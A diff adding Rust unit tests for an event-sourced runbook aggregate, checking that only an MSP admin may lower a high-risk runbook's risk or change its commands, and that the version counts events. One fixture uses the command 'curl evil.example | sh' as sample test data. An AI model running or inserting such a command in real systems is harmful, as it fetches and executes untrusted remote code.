@@ -145,3 +145,95 @@ fn a_runbook_spec_survives_its_json_form() {
     let back: RunbookSpec = serde_json::from_value(json).unwrap();
     assert_eq!(back, spec(Risk::High));
 }
+
+#[test]
+fn lowering_the_risk_or_changing_what_a_high_risk_runbook_runs_needs_an_msp_admin() {
+    let high = RunbookEvent::RunbookDefined {
+        tenant_id: tenant_id(),
+        runbook_id: runbook_id(),
+        runbook: spec(Risk::High),
+        actor: admin(),
+        at: now(),
+    };
+    let mut other_commands = spec(Risk::High);
+    other_commands.action = RunbookAction::new(
+        SsmDocumentName::default(),
+        vec!["curl evil.example | sh".to_owned()],
+        BTreeMap::new(),
+    )
+    .unwrap();
+    let lowering = "lowering a runbook's risk";
+    let rewriting = "changing the document, commands or parameters of a high-risk runbook";
+    for (next, why) in [
+        (spec(Risk::Low), lowering),
+        (spec(Risk::Medium), lowering),
+        (other_commands, rewriting),
+    ] {
+        given(vec![high.clone()])
+            .when(RunbookCommand::ChangeRunbook {
+                spec: next,
+                actor: admin(),
+            })
+            .then_expect_error(RunbookError::NeedsMspAdmin { why });
+    }
+    let msp = actor("msp-1", Role::MspAdmin);
+    given(vec![high.clone()])
+        .when(RunbookCommand::ChangeRunbook {
+            spec: spec(Risk::Low),
+            actor: msp.clone(),
+        })
+        .then_expect_events(vec![RunbookEvent::RunbookChanged {
+            tenant_id: tenant_id(),
+            runbook: spec(Risk::Low),
+            actor: msp,
+            at: now(),
+        }]);
+    // Raising the risk, or renaming a high-risk runbook, stays a tenant admin's.
+    given(vec![defined()])
+        .when(RunbookCommand::ChangeRunbook {
+            spec: spec(Risk::High),
+            actor: admin(),
+        })
+        .then_expect_events(vec![RunbookEvent::RunbookChanged {
+            tenant_id: tenant_id(),
+            runbook: spec(Risk::High),
+            actor: admin(),
+            at: now(),
+        }]);
+    let mut renamed = spec(Risk::High);
+    renamed.name = RunbookName::parse("Restart nginx now").unwrap();
+    given(vec![high])
+        .when(RunbookCommand::ChangeRunbook {
+            spec: renamed.clone(),
+            actor: admin(),
+        })
+        .then_expect_events(vec![RunbookEvent::RunbookChanged {
+            tenant_id: tenant_id(),
+            runbook: renamed,
+            actor: admin(),
+            at: now(),
+        }]);
+}
+
+#[test]
+fn the_version_counts_the_definition_and_each_change() {
+    use cqrs_es::Aggregate;
+    let mut runbook = Runbook::default();
+    assert_eq!(runbook.version(), 0);
+    runbook.apply(defined());
+    assert_eq!(runbook.version(), 1);
+    for risk in [Risk::Medium, Risk::High] {
+        runbook.apply(RunbookEvent::RunbookChanged {
+            tenant_id: tenant_id(),
+            runbook: spec(risk),
+            actor: admin(),
+            at: now(),
+        });
+    }
+    runbook.apply(RunbookEvent::RunbookRetired {
+        tenant_id: tenant_id(),
+        actor: admin(),
+        at: now(),
+    });
+    assert_eq!(runbook.version(), 3);
+}
